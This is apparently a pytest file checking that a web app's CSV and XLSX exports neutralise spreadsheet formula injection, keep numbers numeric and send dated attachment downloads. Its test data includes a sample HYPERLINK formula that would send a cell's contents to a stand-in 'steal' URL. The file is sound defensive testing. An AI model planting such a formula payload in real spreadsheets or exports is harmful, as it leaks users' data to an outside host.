"""CSV and XLSX downloads (core/exports.py): text a spreadsheet would run as a formula
is neutralised, numbers stay numbers, and files download with sensible names."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from core.exports import (
    csv_bytes,
    csv_download,
    download_filename,
    safe_text,
    xlsx_bytes,
    xlsx_download,
)

MALICIOUS = '=HYPERLINK("https://example.com/steal?d="&A2,"Click for details")'
HEADER = ["Organisation", "Area", "Better", "Better %"]
ROWS = [
    [MALICIOUS, "Physical health", 12, Decimal("54.5")],
    ["+44 123", "-1+1", 3, 1.5],
    ["@SUM(A1:A2)", "\tTabbed", 0, None],
    ["\rReturn", "North ICB", 7, Decimal("0.0")],
]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("North ICB", "North ICB"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_quote(text: str, expected: str) -> None:
    assert safe_text(text) == expected


def test_csv_quotes_formula_text_and_keeps_numbers_as_numbers() -> None:
    content = csv_bytes(HEADER, ROWS)
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    assert rows[1] == ["'" + MALICIOUS, "Physical health", "12", "54.5"]
    assert rows[2] == ["'+44 123", "'-1+1", "3", "1.5"]
    assert rows[3] == ["'@SUM(A1:A2)", "'\tTabbed", "0", ""]
    assert rows[4][0] == "'\rReturn"
    # No cell of the file starts with a formula character.
    for row in rows:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_xlsx_writes_formula_text_as_quoted_strings_never_formulas() -> None:
    workbook = load_workbook(io.BytesIO(xlsx_bytes(HEADER, ROWS, sheet_title="Holders: all")))
    sheet = workbook.active
    assert sheet is not None
    assert sheet.title == "Holders  all"
    first = sheet["A2"]
    assert first.data_type == "s"
    assert first.value == "'" + MALICIOUS
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate
    assert sheet["C2"].value == 12
    assert sheet["C2"].data_type == "n"
    assert sheet["D2"].value == 54.5
    assert sheet["D3"].value == 1.5
    assert sheet["D4"].value is None
    assert sheet["A1"].font.bold


def test_xlsx_formula_text_survives_saving_again_as_csv() -> None:
    workbook = load_workbook(io.BytesIO(xlsx_bytes(HEADER, ROWS)))
    sheet = workbook.active
    assert sheet is not None
    values = [cell.value for cell in sheet["A"]]
    resaved = csv_bytes(["value"], [[str(v)] for v in values[1:]])
    assert b"\n=" not in resaved.replace(b"\r\n", b"\n")


def test_downloads_are_attachments_with_dated_names() -> None:
    name = download_filename("Outcomes: family carers", "csv", on=datetime.date(2025, 11, 24))
    assert name == "outcomes-family-carers-2025-11-24.csv"
    response = csv_download(HEADER, ROWS, filename=name)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{name}"'
    assert response["Cache-Control"] == "no-store"
    xlsx = xlsx_download(HEADER, ROWS, filename="report-2025-11-24.xlsx")
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert xlsx.content[:2] == b"PK"
